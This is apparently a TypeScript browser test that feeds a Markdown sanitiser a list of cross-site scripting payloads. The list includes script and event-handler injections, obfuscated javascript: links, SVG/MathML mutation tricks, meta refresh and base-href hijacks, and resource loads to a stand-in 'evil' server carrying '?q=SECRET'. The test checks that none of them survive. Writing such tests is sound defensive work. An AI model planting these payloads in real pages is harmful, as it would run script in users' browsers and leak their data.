/** D3: a model card with what Markdown can smuggle into a page, in a real browser. */
import assert from 'node:assert/strict'
import { readFile } from 'node:fs/promises'
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { join } from 'node:path'
import { test } from 'node:test'
import { markdownRules } from '../../web/src/ui/markdown-rules.ts'
import { noBrowser, openBrowser, root } from './product.ts'

const cards = (evil: string) => [
  '<script>window.hit = 1</script>',
  '<img src=x onerror="window.hit = 1">',
  `![x](${evil}/picture)`,
  `![x][r]\n\n[r]: ${evil}/reference?q=SECRET`,
  '[a](javascript:window.hit=1)',
  '[a](java&#10;script:window.hit=1)',
  '[a](&#x6A;avascript:window.hit=1)',
  '[a](data:text/html,<script>window.hit=1</script>)',
  '[a](vbscript:x)',
  '[a](//evil.example)',
  '<iframe srcdoc="<script>parent.hit=1</script>"></iframe>',
  `<iframe src="${evil}/frame"></iframe>`,
  `<link rel="stylesheet" href="${evil}/style">`,
  `<style>@import "${evil}/import"; body { display: none }</style>`,
  `<p style="background:url(${evil}/background)">x</p>`,
  '<svg><script>window.hit=1</script></svg>',
  '<svg><animate onbegin="window.hit=1" attributeName=x dur=1s></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror="window.hit=1">',
  '<details open ontoggle="window.hit=1">x</details>',
  '<form action="javascript:window.hit=1"><button>x</button></form>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  `<video src="${evil}/video" autoplay onloadstart="window.hit=1"></video>`,
  '<a href="#" onclick="window.hit=1" onfocus="window.hit=1" autofocus>x</a>',
  '<div id="root" class="fixed inset-0">over the page</div>',
  '<noscript><p title="</noscript><img src=x onerror=window.hit=1>">',
  '`</code><img src=x onerror="window.hit=1">`',
]

test('D3: Markdown runs nothing, fetches nothing, leads to no script and covers no page', { skip: noBrowser }, async () => {
  const calls: string[] = []
  const evil = createServer((request, reply) => {
    calls.push(String(request.url))
    reply.end()
  })
  await new Promise<void>((resolve) => evil.listen(0, '127.0.0.1', resolve))
  const browser = await openBrowser()
  try {
    const page = await browser.newPage()
    for (const path of ['dompurify/dist/purify.min.js', 'marked/lib/marked.umd.js'])
      await page.addScriptTag({ content: await readFile(join(root, 'node_modules', path), 'utf8') })
    const { ALLOWED_URI_REGEXP: addresses, ...rules } = markdownRules
    for (const text of cards(`http://127.0.0.1:${(evil.address() as AddressInfo).port}`)) {
      const left = await page.evaluate(
        async ({ text, rules, pattern }) => {
          const { DOMPurify, marked } = window as any
          const html = DOMPurify.sanitize(marked.parse(text, { async: false, gfm: true }), {
            ...rules,
            ALLOWED_URI_REGEXP: new RegExp(pattern, 'i'),
          })
          document.body.innerHTML = html
          for (const link of document.querySelectorAll('a')) (link as HTMLElement).focus()
          for (const link of document.querySelectorAll<HTMLAnchorElement>('a[href^="#"]')) link.click()
          await new Promise((resolve) => setTimeout(resolve, 30))
          const nodes = [...document.body.querySelectorAll('*')]
          return {
            html,
            hit: (window as any).hit ?? null,
            tags: nodes.map((node) => node.tagName.toLowerCase()),
            attributes: nodes.flatMap((node) => node.getAttributeNames()),
            links: [...document.querySelectorAll('a')].map((link) => link.getAttribute('href') ?? ''),
          }
        },
        { text, rules, pattern: addresses.source },
      )
      assert.equal(left.hit, null, `${text} ran: ${left.html}`)
      const tags = left.tags.filter((tag) =>
        /^(script|img|iframe|style|link|base|meta|svg|math|form|video|object|embed|input)$/.test(tag),
      )
      assert.deepEqual(tags, [], `${text}: ${left.html}`)
      assert.deepEqual(
        left.attributes.filter((name) => /^(on|style|class|id|src|srcdoc|action)/.test(name)),
        [],
        `${text}: ${left.html}`,
      )
      for (const link of left.links) assert.match(link, /^$|^(https?:|mailto:|#|\/(?!\/))/i, text)
    }
    assert.deepEqual(calls, [], 'the page fetched something')
  } finally {
    await browser.close()
    evil.close()
  }
})
